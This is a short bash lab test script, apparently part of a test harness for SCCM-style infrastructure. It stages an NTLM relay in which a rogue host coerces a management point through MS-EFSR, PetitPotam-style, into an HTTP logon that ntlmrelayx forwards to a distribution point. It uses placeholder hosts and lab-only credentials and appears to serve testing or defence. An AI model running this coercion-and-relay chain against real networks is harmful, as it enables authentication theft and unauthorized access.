#!/bin/bash
# rogue01 asks mp01 over RPC (MS-EFSR, as PetitPotam does) to open a path on rogue01. mp01 logs on there by NTLM over HTTP, as its WebDAV client would, and impacket's ntlmrelayx hands that logon on to dp01.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/samba.sh"
serve mp01 --roles mp
serve dp01 --roles dp --dp-auth ntlm
relay rogue01 80 -t "http://dp01.corp.example/SMS_DP_SMSPKG\$/PS100012/sccm?/readme.html" --no-smb-server
background "$WORK/efsr.log" mp01 /usr/bin/python3 "$LAB/efsr_server.py" 49200 -- \
	curl -sS -m 5 --ntlm -u 'CORP\mp01$:Lab-Only-Mp01!' http://192.0.2.66/share/file
wait_port mp01 49200
record
client client01 aut=MPLIST
client client02 aut=MPLIST
python rogue01 "$LAB/coerce.py" 'ncacn_ip_tcp:192.0.2.20[49200]' efsr '\\192.0.2.66@80\share\file'
sleep 1
finish
